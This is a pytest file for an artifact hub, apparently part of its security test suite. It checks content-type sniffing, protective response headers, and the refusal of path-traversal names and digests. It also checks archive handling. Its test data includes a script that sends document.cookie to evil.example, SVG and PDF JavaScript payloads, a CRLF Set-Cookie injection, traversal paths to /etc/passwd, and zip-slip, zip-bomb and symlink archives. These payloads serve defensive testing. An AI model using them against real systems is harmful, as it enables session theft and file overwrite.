"""Files that are not what they say, names that are paths, bytes of others."""

from __future__ import annotations

import io
import stat
import tarfile
import zipfile
from pathlib import Path
from random import Random

import pytest

# ruff: noqa: ASYNC240 - small files of the tests' own
from ioa.adapters.artifacts.http import HttpArtifacts
from ioa.adapters.clock import SystemClock
from ioa.hub.file_types import truthful
from ioa.ports.artifacts import ArtifactUnavailable
from ioa.protocol.messages import Artifact
from tests.hub.served import ALICE, BORIS, served

PAGE = b"<!DOCTYPE html><script>document.location='https://evil.example/?'+document.cookie</script>"
DRAWING = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
PDF = b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
PNG = b"\x89PNG\r\n\x1a\n" + bytes(40)
ELF = b"\x7fELF\x02\x01\x01" + bytes(40)
ZIP = b"PK\x03\x04" + bytes(40)
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


@pytest.mark.parametrize(
    ("declared", "content", "shown"),
    [
        ("image/png", PAGE, "text/html"),
        ("image/png", DRAWING, "image/svg+xml"),
        ("image/png", b"just words", "application/octet-stream"),
        ("application/pdf", PAGE, "text/html"),
        ("text/csv", PDF, "application/pdf"),
        ("text/plain", ELF, "application/x-executable"),
        ("text/plain", b"MZ\x90\x00\x03" + bytes(60), "application/vnd.microsoft.portable-executable"),
        ("image/jpeg", PNG, "image/png"),
        ("application/pdf; charset=x", ZIP, "application/zip"),
        # what agrees stays as it was declared
        (DOCX, ZIP, DOCX), ("image/png", PNG, "image/png"), ("IMAGE/PNG", PNG, "IMAGE/PNG"),
        ("text/plain", PAGE, "text/plain"), ("text/html", PAGE, "text/html"), ("text/plain", b"", "text/plain"),
        ("image/svg+xml", DRAWING, "image/svg+xml"), ("text/csv", b"MZ,total\n1,2\n", "text/csv"),
        ("text/csv", b"<5,a\n", "text/csv"),
        ("application/octet-stream", PAGE, "application/octet-stream"), ("text/markdown", b"# words", "text/markdown"),
        ("application/x-tar", b"\x1f\x8b\x08" + bytes(20), "application/x-tar"),
    ],
)  # fmt: skip
def test_a_type_that_the_content_contradicts_is_replaced(declared: str, content: bytes, shown: str) -> None:
    assert truthful(declared, content) == shown


@pytest.mark.parametrize(
    ("media_type", "content"),
    [("text/html", PAGE), ("image/svg+xml", DRAWING), ("application/pdf", PDF), ("text/xml", b"<?xml?><a/>"),
     ("image/png", PAGE), ("text/javascript", b"alert(1)"), ("application/xhtml+xml", PAGE)],
)  # fmt: skip
async def test_what_a_browser_would_run_is_served_as_a_download_without_rights(
    tmp_path: Path, media_type: str, content: bytes
) -> None:
    async with served(tmp_path) as net:
        query = {"name": "a.html", "media_type": media_type}
        made = (await net.ask("PUT", "/v1/artifacts", params=query, content=content)).json()
        for headers in ({}, {"Range": "bytes=0-9"}):
            got = await net.ask("GET", f"/v1/artifacts/{made['digest']}", headers=headers)
            assert content.startswith(got.content)
            assert got.headers["content-type"].partition(";")[0] == made["media_type"]
            assert got.headers["content-disposition"].startswith("attachment;")
            assert got.headers["x-content-type-options"] == "nosniff"
            assert got.headers["content-security-policy"] == "sandbox; default-src 'none'"
            assert got.headers["cross-origin-resource-policy"] == "same-origin"
            assert got.headers["cache-control"].startswith("private")


@pytest.mark.parametrize(
    "media_type", ["text/html\r\nSet-Cookie: a=b", "text", "a/b; c=d\n", "text/html;" * 40, "text/ö"]
)
async def test_a_type_cannot_carry_a_header_line(tmp_path: Path, media_type: str) -> None:
    async with served(tmp_path) as net:
        answer = await net.ask("PUT", "/v1/artifacts", params={"name": "a", "media_type": media_type}, content=b"x")
        assert answer.status_code == 400
        assert "set-cookie" not in answer.headers


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/cron.d/x",
        "/etc/passwd",
        "a/b",
        "a\\b",
        "..",
        ".",
        "",
        "a\0b",
        "a\nb",
        "\u202egpj.exe",
        "C:\\x",
        "x" * 300,
    ],
)
async def test_a_name_that_is_a_path_or_deceives_is_refused(tmp_path: Path, name: str) -> None:
    async with served(tmp_path) as net:
        answer = await net.ask("PUT", "/v1/artifacts", params={"name": name}, content=b"x")
        assert answer.status_code == 400, (name, answer.text)
        assert [path for path in (tmp_path / "artifacts").rglob("*") if path.is_file()] == []


@pytest.mark.parametrize(
    "digest",
    ["sha256:" + "0" * 63, "sha256:../../token", "sha256:" + "0" * 62 + "/.", "..%2f..%2ftoken", "sha256:" + "A" * 64,
     "sha256:%00", "sha512:" + "0" * 64],
)  # fmt: skip
async def test_a_digest_that_is_a_path_reads_nothing(tmp_path: Path, digest: str) -> None:
    async with served(tmp_path) as net:
        answer = await net.ask("GET", f"/v1/artifacts/{digest}")
        assert answer.status_code in (400, 404)
        assert "token" not in answer.headers.get("content-disposition", "")


async def test_files_are_kept_under_the_digest_of_their_bytes_and_cannot_be_run(tmp_path: Path) -> None:
    import hashlib

    async with served(tmp_path) as net:
        made = (await net.ask("PUT", "/v1/artifacts", params={"name": "run.sh"}, content=b"#!/bin/sh\nid\n")).json()
        digest = hashlib.sha256(b"#!/bin/sh\nid\n").hexdigest()
        assert made["digest"] == f"sha256:{digest}"
        (kept,) = [path for path in (tmp_path / "artifacts").rglob("*") if path.is_file()]
        assert kept.name == digest
        assert not kept.stat().st_mode & (stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)


async def test_bytes_that_were_changed_on_the_hubs_disk_are_not_believed(tmp_path: Path) -> None:
    async with served(tmp_path) as net:
        made = (await net.ask("PUT", "/v1/artifacts", params={"name": "a.txt"}, content=b"honest")).json()
        (kept,) = [path for path in (tmp_path / "artifacts").rglob("*") if path.is_file()]
        kept.write_bytes(b"forged")
        artifact = Artifact(name="a.txt", media_type="text/plain", size_bytes=6, digest=made["digest"])
        async with HttpArtifacts(net.server.url, ALICE, clock=SystemClock(), random=Random(1)) as files:
            with pytest.raises(ArtifactUnavailable, match="its digest is not"):
                await files.fetch(artifact, tmp_path / "got")
    assert list(tmp_path.glob("got*")) == []


async def test_an_archive_stays_an_archive(tmp_path: Path) -> None:
    """Slips, links and bombs hurt who unpacks. The hub does not."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../../evil", "x")
        archive.writestr("bomb", bytes(20_000_000))
    tape = io.BytesIO()
    with tarfile.open(fileobj=tape, mode="w:gz") as archive:
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(link)
    async with served(tmp_path) as net:
        for name, content in (("a.zip", packed.getvalue()), ("a.tgz", tape.getvalue())):
            made = (await net.ask("PUT", "/v1/artifacts", params={"name": name}, content=content)).json()
            assert (await net.ask("GET", f"/v1/artifacts/{made['digest']}")).content == content
        kept = [path for path in (tmp_path / "artifacts").rglob("*") if path.is_file()]
        assert sorted(len(path.read_bytes()) for path in kept) == sorted(len(x.getvalue()) for x in (packed, tape))
        assert not any(path.is_symlink() for path in tmp_path.rglob("*"))


async def test_knowing_a_digest_is_not_enough(tmp_path: Path) -> None:
    async with served(tmp_path) as net:
        made = (await net.ask("PUT", "/v1/artifacts", params={"name": "a.txt"}, content=b"secret")).json()
        answer = await net.ask("GET", f"/v1/artifacts/{made['digest']}", token=BORIS)
        assert (answer.status_code, answer.json()["error"]["code"]) == (404, "unknown_artifact")
